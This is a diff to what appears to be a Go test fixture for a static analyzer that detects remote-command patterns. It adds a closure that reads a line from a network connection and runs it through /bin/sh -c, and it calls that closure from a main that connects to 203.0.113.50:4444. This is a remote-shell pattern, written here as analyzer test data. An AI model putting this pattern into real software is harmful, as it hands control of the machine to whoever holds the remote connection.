@@ -120,6 +120,15 @@ func (s *server) fetch(w http.ResponseWriter, r *http.Request) {
 	os.Remove(s.root + r.FormValue("name")) // want "remote-command/file-operation-from-network"
 }
 
+// closure runs what the connection sends from a closure that captured the reader.
+func (b *Bot) closure() {
+	run := func() {
+		line, _ := b.r.ReadString('\n')
+		exec.Command("/bin/sh", "-c", line).Start() // want "remote-command/process-from-network"
+	}
+	go run()
+}
+
 // cli is a local argument parser: os.Args is not network input.
 func cli() {
 	switch os.Args[1] {
@@ -135,6 +144,7 @@ func main() {
 	b.connect("203.0.113.50:4444")
 	go b.loop()
 	go b.feed()
+	b.closure()
 	if ch, err := dial("203.0.113.50:4445"); err == nil {
 		serve(ch)
 	}
